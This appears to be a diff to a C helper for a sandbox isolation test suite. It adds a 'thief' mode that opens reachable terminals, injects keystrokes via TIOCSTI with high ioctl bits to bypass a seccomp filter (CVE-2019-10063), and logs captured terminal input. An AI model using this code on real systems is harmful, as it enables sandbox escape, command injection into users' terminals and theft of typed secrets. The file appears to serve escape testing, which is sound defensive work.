@@ -8,6 +8,8 @@
  *   helper astray DIR   changes its root to DIR, stays outside of it, says "up", and waits under the name of sleep
  *   helper turncoat UID DIR   becomes UID, says "up", and waits under the name of sleep; at SIGUSR1 it makes a user and a
  *                       mount namespace of its own, with DIR as its root
+ *   helper thief LOG    says "up"; until it is killed it reads every terminal that it can open, in a session of its own, and
+ *                       types into them; LOG has what came of it. `helper thief LOG leave` itself ends at once
  *   helper walk PATH..  every file from / on but those at and below PATH, as "PATH KIND MODE RIGHTS CONTENT" with tabs
  *   helper session CMD..  runs CMD with a session keyring in which a key is; then what has come to be of it
  *   helper keys         what there is of that key, and what can be done to it
@@ -23,9 +25,11 @@
 #include <poll.h>
 #include <sched.h>
 #include <signal.h>
+#include <errno.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/ioctl.h>
 #include <sys/mount.h>
 #include <sys/prctl.h>
 #include <sys/ptrace.h>
@@ -482,8 +486,66 @@ static int escape(const char *file)
 	return 0;
 }
 
+/* With high bits: a filter that compares 64 of them lets it through (CVE-2019-10063). */
+static void push(int log, int fd)
+{
+	const char byte = 'Z';
+
+	if (syscall(SYS_ioctl, (long)fd, 0xbeef00000000ul | TIOCSTI, &byte) == 0)
+		dprintf(log, "pushed\n");
+}
+
+static int thief(const char *file, int leaves)
+{
+	enum { MOST = 64 };
+	struct pollfd all[MOST];
+	char name[64], bytes[256];
+	int log = open(file, O_CREAT | O_APPEND | O_WRONLY, 0666), count = 0;
+	int tty = open("/dev/tty", O_RDWR | O_NONBLOCK);
+
+	dprintf(log, "tty: %s\n", tty < 0 ? strerror(errno) : "open");
+	for (int pid = 0; pid < 32; pid++)
+		for (int fd = 0; fd < 32 && count < MOST; fd++) {
+			snprintf(name, sizeof name, "/proc/%d/fd/%d", pid, fd);
+			if (pid == 0)
+				snprintf(name, sizeof name, fd == 0 ? "/dev/tty" : fd == 1 ? "/dev/console" : "/dev/pts/%d", fd - 2);
+			int one = open(name, O_RDWR | O_NONBLOCK | O_NOCTTY);
+			if (one >= 0 && isatty(one))
+				all[count++] = (struct pollfd){one, POLLIN, 0};
+			else
+				close(one);
+		}
+	for (int i = 0; i < count; i++)
+		push(log, all[i].fd);
+	signal(SIGHUP, SIG_IGN);
+	if (fork()) {
+		signal(SIGHUP, SIG_DFL);
+		puts("up");
+		fflush(stdout);
+		while (!leaves)
+			pause();
+		return 0;
+	}
+	setsid();
+	for (int open = count; open && poll(all, count, -1) > 0;)
+		for (int i = 0; i < count; i++) {
+			ssize_t length = all[i].revents ? read(all[i].fd, bytes, sizeof bytes) : -1;
+			if (length > 0)
+				dprintf(log, "stolen: %.*s\n", (int)length, bytes);
+			else if (all[i].revents & (POLLHUP | POLLERR)) {
+				all[i].fd = -1;
+				open--;
+			}
+		}
+	dprintf(log, "gone\n");
+	while (1)
+		pause();
+}
+
 int main(int argc, char **argv)
 {
+	if (argc >= 3 && !strcmp(argv[1], "thief"))
+		return thief(argv[2], argc == 4);
 	if (argc == 3 && !strcmp(argv[1], "escape"))
 		return escape(argv[2]);
 	if (argc == 2 && !strcmp(argv[1], "signals"))
